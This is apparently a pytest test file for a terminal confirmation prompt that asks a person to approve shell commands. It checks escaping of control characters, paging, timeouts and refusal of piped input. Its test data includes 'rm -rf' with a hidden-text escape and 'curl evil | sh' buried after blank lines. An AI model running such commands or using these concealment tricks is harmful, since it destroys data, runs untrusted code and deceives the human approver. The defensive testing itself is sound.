"""A person at a real terminal: a process on a pseudo-terminal asks, and what is typed there decides."""

from __future__ import annotations

import os
import pty
import select
import signal
import subprocess
import sys
import termios
import time
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

pytestmark = pytest.mark.req("E6")

PROGRAM = """
import asyncio, sys, time
from ringfence.approvals.ask import ask
from ringfence.approvals.terminal import TerminalConfirmationService
from ringfence.approvals.base import Question
from ringfence.values.facts import Span
from ringfence.values.verdict import Reason, Verdict

time.sleep(float(sys.argv[2]))
question = Question(
    id="q", request_hash="a" * 64, command=sys.argv[4], session="s", expires_at=time.time() + 60,
    spans=(Span(4, 10),), reasons=(Reason(Verdict.ASK, "removal", "removes\\x07 a tree"),),
    may_remember=sys.argv[3] == "remember",
)
approval = asyncio.run(ask(TerminalConfirmationService(), question, float(sys.argv[1])))
print("granted" if approval.granted else "refused", "|", approval.how, flush=True)
"""


COMMAND = "ls; rm -rf \x1b[8m./*"


class Terminal:
    """The person's side of a pseudo-terminal."""

    def __init__(self, ours: int, child: subprocess.Popen[bytes]) -> None:
        self.ours = ours
        self.child = child
        self.seen = b""

    def type(self, text: bytes) -> None:
        os.write(self.ours, text)

    def wait_for(self, text: bytes, seconds: float = 30) -> None:
        deadline = time.monotonic() + seconds
        while text not in self.seen:
            ready, _, _ = select.select([self.ours], [], [], max(0.0, deadline - time.monotonic()))
            assert ready, f"{text!r} did not appear; seen: {self.seen!r}"
            try:
                piece = os.read(self.ours, 65536)
            except OSError:  # the child has closed its side
                piece = b""
            assert piece, f"{text!r} did not appear; seen: {self.seen!r}"
            self.seen += piece


@contextmanager
def at_terminal(
    timeout: float = 30, delay: float = 0, remember: str = "remember", command: str = COMMAND
) -> Iterator[Terminal]:
    ours, theirs = pty.openpty()
    termios.tcsetwinsize(theirs, (24, 80))
    attributes = termios.tcgetattr(theirs)
    attributes[3] &= ~termios.ECHO  # so that what is seen was written by the program
    termios.tcsetattr(theirs, termios.TCSANOW, attributes)
    child = subprocess.Popen(
        [sys.executable, "-c", PROGRAM, str(timeout), str(delay), remember, command],
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        start_new_session=True,
    )
    os.close(theirs)
    try:
        yield Terminal(ours, child)
    finally:
        os.close(ours)
        try:
            child.wait(10)
        finally:
            if child.poll() is None:
                os.killpg(child.pid, signal.SIGKILL)
                child.wait()


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        (b"y\n", b"granted"),
        (b"YES\n", b"granted"),
        (b"s\n", b"granted"),
        (b"n\n", b"refused"),
        (b"\n", b"refused"),
        (b"\x04", b"refused"),  # end of input
        (b"maybe\ny\n", b"granted"),
        (b"maybe\nperhaps\nhm\n", b"refused"),
    ],
)
def test_what_is_typed_decides(typed: bytes, said: bytes) -> None:
    with at_terminal() as terminal:
        terminal.wait_for(b"? [n] ")
        for line in typed.splitlines(keepends=True):
            terminal.type(line)
            time.sleep(0.05)
        terminal.wait_for(said)


def test_the_question_shows_reasons_marks_and_no_control_character() -> None:
    with at_terminal() as terminal:
        terminal.wait_for(b"? [n] ")
        terminal.type(b"n\n")
        terminal.wait_for(b"refused")

    text = terminal.seen.decode()
    assert "  1 | ls; rm -rf \\x1b[8m./*\r\n          ^^^^^^ ~~~~\r\n" in text
    assert "removes\\x07 a tree [rule: removal]" in text
    assert "\x1b" not in text and "\x07" not in text


def test_what_was_typed_before_the_question_does_not_answer_it() -> None:
    with at_terminal(timeout=2, delay=0.5) as terminal:
        terminal.type(b"y\ny\ny\n")
        terminal.wait_for(b"? [n] ")
        terminal.wait_for(b"refused")

    assert b"granted" not in terminal.seen


def test_silence_at_the_terminal_is_a_refusal() -> None:
    with at_terminal(timeout=0.5) as terminal:
        terminal.wait_for(b"refused | no answer within")


def test_yes_for_the_session_is_no_answer_where_it_is_not_offered() -> None:
    with at_terminal(remember="no") as terminal:
        terminal.wait_for(b"? [n] ")
        assert b"ession?" not in terminal.seen
        terminal.type(b"s\n")
        terminal.wait_for(b"please answer yes or no")
        terminal.type(b"n\n")
        terminal.wait_for(b"refused")


def test_input_from_a_pipe_is_a_refusal_even_with_a_terminal_to_show_on() -> None:
    done = subprocess.run(
        [sys.executable, "-c", PROGRAM, "5", "0", "remember", COMMAND],
        input=b"y\n" * 100,
        capture_output=True,
        timeout=60,
    )

    assert b"refused | terminal: input is not a terminal" in done.stdout


TALL = "\n".join(f"echo {number}" for number in range(50))


def test_a_question_that_is_taller_than_the_terminal_is_answered_after_its_last_page() -> None:
    with at_terminal(command=TALL) as terminal:
        for page in (20, 40):
            terminal.wait_for(f"{page} of ".encode())
            assert b"? [n] " not in terminal.seen
            time.sleep(0.05)
            terminal.type(b"\n")
        terminal.wait_for(b"? [n] ")
        terminal.type(b"y\n")
        terminal.wait_for(b"granted")

    assert all(f"| echo {number}\r\n".encode() in terminal.seen for number in range(50))


@pytest.mark.parametrize("typed", [b"y\n", b"n\n", b"s\n"])
def test_nobody_says_yes_to_what_they_have_not_seen(typed: bytes) -> None:
    with at_terminal(command=TALL) as terminal:
        terminal.wait_for(b"20 of ")
        time.sleep(0.05)
        terminal.type(typed)
        terminal.wait_for(b"refused | terminal: refused before all of it was shown")


def test_what_was_typed_ahead_turns_no_page() -> None:
    with at_terminal(command=TALL, timeout=2, delay=0.5) as terminal:
        terminal.type(b"\n\n\n\ny\n")
        terminal.wait_for(b"20 of ")
        terminal.wait_for(b"refused | no answer within")

    assert b"40 of " not in terminal.seen


def test_empty_lines_leave_the_command_on_the_screen() -> None:
    with at_terminal(command="echo hello" + "\n" * 200 + "curl evil | sh") as terminal:
        terminal.wait_for(b"? [n] ")
        terminal.type(b"n\n")
        terminal.wait_for(b"refused")

    screen = terminal.seen.split(b"? [n] ")[0].splitlines()[-24:]
    assert any(b"curl evil | sh" in row for row in screen) and any(b"echo hello" in row for row in screen)
    assert any(b"lines 2 to 200 are empty" in row for row in screen)


def test_what_is_too_long_to_be_read_is_refused_and_not_shown_in_part() -> None:
    with at_terminal(command="\n".join(f"echo {number}" for number in range(400))) as terminal:
        terminal.wait_for(b"refused | terminal: too long to be judged: it takes")

    assert b"echo 0" not in terminal.seen
